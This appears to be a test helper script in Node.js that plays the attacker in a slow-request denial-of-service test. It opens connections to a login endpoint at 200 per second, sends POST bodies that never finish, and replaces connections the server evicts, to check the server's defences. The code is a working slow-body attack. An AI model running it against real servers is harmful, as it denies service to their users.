// The attacker of slow-bodies.mjs, from an address of its own. Holds request bodies open that never end, and replaces those that the server evicts. Tells its
// parent when as many were begun as wanted, and again when it is told to stop.
import { connect } from "node:net";

/** The address of the attacker; the others use 127.0.0.1. */
const ATTACKER = "127.0.0.2";
/** Connections opened at a time, and the pause between: 200 a second, three times as many as took the server down before it had defences. */
const STEP = 4;
const PAUSE_MS = 20;

const { hostname, port } = new URL(process.argv[2]);
const wanted = Number(process.argv[3]);
const open = new Set();
let opened = 0;
let evicted = 0;

function trickle() {
  const socket = connect({ host: hostname, port: Number(port), localAddress: ATTACKER });
  open.add(socket);
  socket.on("error", () => socket.destroy());
  socket.on("close", () => {
    open.delete(socket);
    evicted += 1;
  });
  socket.on("data", () => {});
  socket.on("connect", () => {
    opened += 1;
    if (opened === wanted) process.send({ opened, evicted });
  });
  socket.write(
    `POST /api/v1/login/access-token HTTP/1.1\r\nHost: ${hostname}\r\n` +
      "Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 9\r\n\r\nu",
  );
}

const timer = setInterval(() => {
  for (let n = Math.min(wanted - open.size, STEP); n > 0; n -= 1) trickle();
}, PAUSE_MS);

process.on("message", () => {
  clearInterval(timer);
  process.send({ opened, evicted }, () => process.exit());
});
